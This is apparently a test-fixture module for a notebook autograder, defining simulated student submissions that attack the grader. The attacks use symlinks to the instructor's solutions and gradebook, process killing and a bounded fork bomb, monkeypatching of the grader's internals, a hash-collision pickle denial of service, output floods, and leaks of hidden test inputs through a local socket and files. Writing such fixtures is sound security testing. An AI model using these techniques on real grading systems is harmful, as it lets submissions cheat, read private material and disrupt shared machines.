"""Attacks on the grader itself (issue 10): its files, its processes, its trust in the student side, its
time and its reports.  Each fixture says what it does; the test that grades it (tests/
test_grading_fixtures.py) says what it did to the grader before the sandbox (main's, run by
`tests/grading_fixtures/old_grader.py`).

Unless a fixture says otherwise its answers are right, so what it loses is what the attack cost it, and
what it must not gain is the attack's.  Attacks that need to know where the class is (a file of the
instructor's, a process outside the grader, a listener) get it from the class's `context`.
"""

from . import SOLUTIONS, filled, fixture, references, to_bytes

ALL_02 = ["relu", "sigmoid", "sigmoid_derivative", "softmax"]
RELU_LOST = {"zero": ["relu"], "full": ["sigmoid", "sigmoid_derivative", "softmax"]}  # relu earns nothing, the rest all
STUDENT = 'import sys\n_student = sys.modules["grading.student"]\n'


def attack(name: str, **expected):
    """Register an attack on the activations notebook (every attack here is on 02), as `fixture` does."""
    return fixture(name, "attack", "02_activations", **expected)


def submitted(mode: str = "right", **changes) -> bytes:
    """The activations notebook with every answer `mode` (right unless said), then `filled`'s `changes`."""
    return to_bytes(filled("02_activations", mode, **changes))


def reference_then(exercise: str, code: str) -> str:
    """The reference answer of `exercise`, with `code` after it in the same answer cell."""
    return references("02_activations")[exercise] + "\n" + code


def wrapped_sigmoid(setup: str, before: str) -> str:
    """The reference sigmoid renamed `_sigmoid`, then `setup`, then a `sigmoid` whose body runs the lines
    `before` and returns what `_sigmoid` returns."""
    reference = references("02_activations")["sigmoid"].replace("def sigmoid(", "def _sigmoid(")
    return reference + setup + "\n\ndef sigmoid(*args, **kwargs):\n" + before + "    return _sigmoid(*args, **kwargs)\n"


READ_THROUGH_LINK = '''
import json
import os


def _through_the_link():
    """The submission came with `notes.txt`, a symbolic link to the instructor's solutions notebook."""
    try:
        with open("notes.txt") as handle:
            notebook = json.load(handle)
    except (OSError, ValueError):
        return []
    return ["".join(cell["source"]) for cell in notebook["cells"]
            if cell.get("metadata", {}).get("nbgrader", {}).get("solution")]


for _source in _through_the_link():
    exec(_source, globals())
for _name in ("classmate.txt", "gradebook.db"):
    print(_name, "readable:", os.path.exists(_name))
'''


def _links(folder, context):
    """Symbolic links beside the notebook: the solutions, a classmate's submission, the gradebook."""
    source = next((SOLUTIONS / "02_activations").glob("*.ipynb"))
    (folder / "notes.txt").symlink_to(source)
    (folder / "classmate.txt").symlink_to(
        context["incoming"] / "right_answers" / "02_activations" / "activations.ipynb"
    )
    (folder / "gradebook.db").symlink_to(context["course"] / "gradebook.db")


@attack(
    "symlink_in_submission",
    zero=ALL_02,
    extra=_links,
    tampering=("runs code built at run time",),
    reported=("a symbolic link 'notes.txt'", "a symbolic link 'gradebook.db'"),
)
def symlink_in_submission():
    """No answer written; the submission carries symbolic links to the solutions notebook, a classmate's
    notebook and the gradebook, and each answer cell runs the solutions it reads through the first."""
    return submitted("stub", overrides={name: READ_THROUGH_LINK for name in ALL_02})


PLANT_LOG_LINK = """
import os

for _name in (".student-process.log", "student.log"):
    try:
        os.remove(_name)
    except OSError:
        pass
    try:
        os.symlink(__SENTINEL__, _name)
    except OSError:
        pass
os.write(1, b"overwritten by a submission\\n")
"""

KILL_PARENT_AND_SELF = """
import os
import signal

os.kill(os.getppid(), signal.SIGKILL)   # the process this cell was forked from
os._exit(0)
"""


@attack(
    "log_symlink",
    zero=["sigmoid"],
    full=["relu", "sigmoid_derivative", "softmax"],
    uses_context=True,
    tampering=("creates a symbolic link",),
)
def log_symlink(context):
    """Right answers; relu's cell plants symbolic links named like the grader's log in its folder, pointing
    at a file of the instructor's (`context["sentinel"]`), and writes bytes to its standard output;
    sigmoid's cell kills its parent and itself, so that the grader restarts the student process."""
    plant = PLANT_LOG_LINK.replace("__SENTINEL__", repr(str(context["sentinel"])))
    return submitted(
        overrides={"relu": reference_then("relu", plant), "sigmoid": reference_then("sigmoid", KILL_PARENT_AND_SELF)}
    )


LYING_FORK = (
    STUDENT
    + '''
_fork = _student.Worker.op_fork


def _lying_fork(self):
    """The reply to the judge's fork request names a process of the instructor's as the new child."""
    reply = _fork(self)
    if isinstance(reply, dict) and reply.get("status") == "ok":
        reply["value"] = __VICTIM__
    return reply


_student.Worker.op_fork = _lying_fork
'''
)


@attack("fork_pid_lie", full=ALL_02, uses_context=True, tampering=("course internals",))
def fork_pid_lie(context):
    """Right answers; the first answer cell rewrites the student process's fork reply so that the pid it
    reports is a process outside the grader (`context["victim"]`)."""
    return submitted(prefix=LYING_FORK.replace("__VICTIM__", str(context["victim"])))


IN_PLACE_RELU = '''
import numpy as np


def relu(x):
    """Right values, but a float array given to it is overwritten with the result."""
    if isinstance(x, np.ndarray) and x.dtype.kind == "f" and x.flags.writeable:
        np.maximum(x, 0.0, out=x)
        return x
    return np.maximum(x, 0)
'''

HIDE_IN_PLACE = (
    STUDENT
    + """
_student.Worker.fingerprint = lambda self, value: b"unchanged"   # every argument reported as untouched
"""
)


@attack("inplace_hidden", **RELU_LOST, tampering=("course internals",), reported=("changed an input in place",))
def inplace_hidden():
    """relu overwrites its float argument with the result (the contract forbids it) and the first answer
    cell makes the student process report every argument as unchanged; the other answers are right."""
    return submitted(overrides={"relu": IN_PLACE_RELU}, prefix=HIDE_IN_PLACE)


STRAY = """
import os
import sys

if os.fork() == 0:           # a grandchild of the cell, in a session of its own, that outlives it
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", "dl-grading-stray-fixture"])
    os._exit(0)
"""


@attack("stray_process", full=ALL_02, tampering=("forks the process",))
def stray_process():
    """Right answers; relu's cell starts a process in a session of its own that sleeps for five minutes."""
    return submitted(overrides={"relu": reference_then("relu", STRAY)})


# The two slow replies: relu's tests run out of time, and the scan sees the course's internals patched.
RELU_TIMED_OUT = {**RELU_LOST, "student_message": "time limit", "tampering": ("course internals",)}

OP_CALL_REPLACED = (
    STUDENT
    + """
__IMPORTS__

_wire = _student.wire
_send_bytes = _wire.send_bytes
_call = _student.Worker.op_call
__CODE__


_student.Worker.op_call = _op_call
"""
)


def op_call_replaced(imports: str, code: str) -> str:
    """A first answer cell's code for the attacks on the student process's replies: `imports`, then `_wire`
    (the student side's wire module), its `_send_bytes` and `_call` (the real `Worker.op_call`), then `code`,
    whose `_op_call` takes `Worker.op_call`'s place."""
    return OP_CALL_REPLACED.replace("__IMPORTS__", imports).replace("__CODE__", code.strip("\n"))


SLOW_REPLY = op_call_replaced(
    "import time",
    '''
_slow = [True]


def _dribble(sock, payload):
    """The first reply to a call of relu: its header at once, then one byte every 0.2 s."""
    sock.sendall(_wire.HEADER.pack(len(payload)))
    for index in range(len(payload)):
        sock.sendall(payload[index:index + 1])
        time.sleep(0.2)


def _op_call(self, target, *rest):
    slow = _slow[0] and getattr(target, "__name__", "") == "relu"
    _slow[0] = _slow[0] and not slow
    reply = _call(self, target, *rest)
    if slow:
        _wire.send_bytes = lambda sock, payload: (_dribble(sock, payload), setattr(_wire, "send_bytes", _send_bytes))
    return reply
''',
)


@attack("slow_reply", **RELU_TIMED_OUT)
def slow_reply():
    """Right answers; the first answer cell makes the student process send its first reply to a call of
    relu one byte every 0.2 s (about a minute in all)."""
    return submitted(prefix=SLOW_REPLY)


SLOW_HASH = op_call_replaced(
    "import pickle",
    '''
_MERSENNE = 2 ** 61 - 1   # every multiple of it hashes to 0 in CPython


def _colliding_reply(count=60000):
    """A reply whose value is a set of `count` ints with one hash: quadratic to decode, linear to write."""
    items = b"".join(pickle.dumps(i * _MERSENNE, protocol=2)[2:-1] for i in range(count))
    return (b"\\x80\\x05}(" + pickle.dumps("status", protocol=2)[2:-1] + pickle.dumps("ok", protocol=2)[2:-1]
            + pickle.dumps("value", protocol=2)[2:-1] + b"\\x8f(" + items + b"\\x90u.")


def _op_call(self, target, *rest):
    reply = _call(self, target, *rest)
    if getattr(target, "__name__", "") == "relu":
        _wire.send_bytes = lambda sock, payload: (_send_bytes(sock, _colliding_reply()),
                                                  setattr(_wire, "send_bytes", _send_bytes))
    return reply
''',
)


@attack("slow_hash", **RELU_TIMED_OUT)
def slow_hash():
    """Right answers; every reply to a call of relu is replaced by a set of 60,000 ints that share one
    hash, which takes the judge minutes to decode."""
    return submitted(prefix=SLOW_HASH)


FLOOD = (
    STUDENT
    + """
_student.TEXT_CAP = 10 ** 10
_chunk = "x" * 200_000
for _index in range(200):    # 40 MB of output, in 200 outputs of two alternating streams
    print(_chunk, file=sys.stderr if _index % 2 else sys.stdout, flush=True)
"""
)


@attack("output_flood", full=ALL_02)
def output_flood():
    """Right answers; the first answer cell lifts the student side's output cap and prints 40 MB."""
    return submitted(prefix=FLOOD)


FAKE_HEADING = """
def relu(x):
    raise ValueError("\\n\\n### right_answers / 02_activations / activations.ipynb: 0 of 7"
                     "\\n\\n- copied from a classmate\\n")
"""


@attack("fake_report_heading", **RELU_LOST)
def fake_report_heading():
    """relu raises an exception whose message is a report heading and a note for a classmate."""
    return submitted(overrides={"relu": FAKE_HEADING})


NETWORK_LEAK = '''
import socket


def _leak(value):
    """Send what the tests pass to a listener on the instructor's machine."""
    try:
        with socket.create_connection(("127.0.0.1", __PORT__), timeout=1) as connection:
            connection.sendall(repr(value).encode()[:4000])
    except OSError:
        pass
'''


@attack(
    "network_leak",
    full=ALL_02,
    uses_context=True,
    tampering=("uses the network",),
    reported=("tried to reach the network",),
)
def network_leak(context):
    """Right answers; relu sends every input it is given to a listener on the grading machine
    (`context["port"]`)."""
    relu = (
        references("02_activations")["relu"].replace("def relu(x):", "def _relu(x):")
        + NETWORK_LEAK.replace("__PORT__", str(context["port"]))
        + "\n\ndef relu(x):\n    _leak(x)\n    return _relu(x)\n"
    )
    return submitted(overrides={"relu": relu})


EXCEPTION_LEAK = '''
import numpy as np


def relu(x):
    """Right, but an input of the hidden tests' shape comes back in an exception message."""
    x = np.asarray(x)
    if x.shape == (3, 4, 5):
        raise ValueError("LEAK" "ED " + repr(x.tolist()))   # the marker is not in the source shown back
    return np.where(x > 0, x, np.zeros((), x.dtype))
'''


@attack("exception_leak", **RELU_LOST)
def exception_leak():
    """relu passes the visible checks, and raises with the whole input as its message when it gets the
    hidden tests' 3 x 4 x 5 tensor."""
    return submitted(overrides={"relu": EXCEPTION_LEAK})


FILE_LEAK_RELU = '''
import numpy as np


def relu(x):
    """Right; every input it is given is appended to leak.txt."""
    with open("leak.txt", "a") as handle:
        handle.write("LEAK" "ED " + repr(np.asarray(x).tolist())[:3000] + "\\n")
    return np.maximum(x, 0)
'''

FILE_LEAK_PRINT = """
import os

if os.path.exists("leak.txt"):
    print(open("leak.txt").read())
"""


@attack("file_leak", full=ALL_02)
def file_leak():
    """Right answers; relu writes every input it gets to a file, and sigmoid's cell (after relu's tests)
    prints that file, so the hidden inputs are in its output."""
    return submitted(overrides={"relu": FILE_LEAK_RELU, "sigmoid": reference_then("sigmoid", FILE_LEAK_PRINT)})


# --- runaway processes: a fork bomb, busy workers (a sandbox's processes are capped and end with their test)

BOMB_MARKER = "dl-grading-bomb-fixture"
BUSY_MARKER = "dl-grading-busy-fixture"

SANDBOX_PROCESSES = '''
import os


def _processes_seen(marker=None):
    """Processes this one can see (inside the sandbox: the sandbox's own), or those whose command line
    holds `marker`."""
    found = 0
    for entry in os.listdir("/proc"):
        try:
            if entry.isdigit() and (marker is None or marker.encode() in open(f"/proc/{entry}/cmdline", "rb").read()):
                found += 1
        except OSError:
            pass
    return found
'''

FORK_BOMB = (
    SANDBOX_PROCESSES
    + '''

_bombed = []


def _fork_bomb(rounds=8):
    """`while True: os.fork()`, bounded at 2 ** 8 = 256 processes so that a grader without a limit
    survives the experiment: every process forks, every child forks again; each ends as a sleeping
    process named __BOMB__ (for 30 s)."""
    me = os.getpid()
    for _ in range(rounds):
        try:
            os.fork()
        except OSError:
            break
    if os.getpid() != me:
        try:
            os.execv("/bin/sleep", ["__BOMB__", "30"])
        finally:
            os._exit(0)
    print("processes in the sandbox after the fork bomb:", _processes_seen())


def relu(x):
    """Right; its first call in a process sets a fork bomb off."""
    if not _bombed:
        _bombed.append(True)
        _fork_bomb()
    return np.maximum(x, 0)
'''.replace("__BOMB__", BOMB_MARKER)
)


@attack("fork_bomb", full=ALL_02, tampering=("forks the process",))
def fork_bomb():
    """Right answers; relu's first call in each process sets a fork bomb off (bounded at 256
    processes, each sleeping 30 s) and prints how many processes it can see."""
    relu = "import numpy as np\n" + FORK_BOMB
    return submitted(overrides={"relu": relu})


BUSY_WORKERS = (
    SANDBOX_PROCESSES
    + '''
import sys

_started = []


def _busy_workers(count=4):
    """Four processes that keep a core busy each (for at most 30 s, so that a grader without limits
    survives the experiment), started and left running."""
    for _ in range(count):
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time\\nend = time.monotonic() + 30\\n"
                                      "while time.monotonic() < end:\\n    pass", "__BUSY__"])


def relu(x):
    """Right; its first call in a process starts the busy workers."""
    if not _started:
        _started.append(True)
        _busy_workers()
    return np.maximum(x, 0)
'''.replace("__BUSY__", BUSY_MARKER)
)


def _counting_sigmoid() -> str:
    """The reference sigmoid, printing at each call how many busy workers it can see."""
    return wrapped_sigmoid(
        "\n" + SANDBOX_PROCESSES, f"    print('busy workers still running:', _processes_seen({BUSY_MARKER!r}))\n"
    )


@attack("busy_workers", full=ALL_02, tampering=("forks the process",))
def busy_workers():
    """Right answers; relu's first call in each process starts four workers that busy-loop and leaves them
    running; sigmoid prints, each time it is called, how many of them it can see."""
    relu = "import numpy as np\n" + BUSY_WORKERS
    return submitted(overrides={"relu": relu, "sigmoid": _counting_sigmoid()})


TEST_LEAK_RELU = """
import numpy as np


def relu(x):
    \"\"\"Right; every input it is given is appended to a file in its folder and one in /tmp.\"\"\"
    for name in ("leak.txt", "/tmp/leak.txt"):
        with open(name, "a") as handle:
            handle.write(name + ": LEAK" "ED " + repr(np.asarray(x).tolist())[:3000] + "\\n")
    return np.maximum(x, 0)
"""


def _printing_sigmoid() -> str:
    """The reference sigmoid, printing at each call the 3-D inputs (the hidden tests' shape) relu's calls
    wrote to the two files."""
    return wrapped_sigmoid(
        "\n\nimport os as _os\n",
        "    for _name in ('leak.txt', '/tmp/leak.txt'):\n"
        "        if _os.path.exists(_name):\n"
        "            _lines = open(_name).readlines()\n"
        "            _solid = ''.join(line for line in _lines if '[[[' in line)[-3000:]\n"
        "            print(_name, 'holds', len(_lines), 'inputs;', _solid)\n",
    )


@attack("file_leak_between_tests", full=ALL_02)
def file_leak_between_tests():
    """Right answers; relu appends every input it gets to a file in its working folder and in /tmp, and
    sigmoid prints both files each time it is called, so that sigmoid's visible checks (run after relu's
    tests) show what relu's hidden tests gave it."""
    return submitted(overrides={"relu": TEST_LEAK_RELU, "sigmoid": _printing_sigmoid()})


HIDE_IN_PLACE_BY_COPIES = '''
import copy

_Worker = get_ipython().enable_gui.__globals__["Worker"]   # the grader's student module, reached from the shell
_run_guarded = _Worker.run_guarded


def _op_call(self, target, args, kwargs, context):
    """Call as the grader would, but send back copies of the arguments taken before the call."""
    before = copy.deepcopy((args, kwargs))
    reply = _run_guarded(self, target, args, kwargs, context, watch=(args, kwargs))
    reply["changed"] = before
    return reply


_Worker.op_call = _op_call
'''


@attack("inplace_hidden_by_copies", full=ALL_02, tampering=("__globals__",))
def inplace_hidden_by_copies():
    """relu overwrites its float argument with the result (the contract forbids it); the first answer cell
    reaches the grader's student module through a function's `__globals__` (no import, no module name)
    and makes every call send back copies of its arguments taken before the call. The judge cannot see
    the change (GRADING.md says why no judge can); the scan reports the code that hides it."""
    return submitted(overrides={"relu": IN_PLACE_RELU}, prefix=HIDE_IN_PLACE_BY_COPIES)
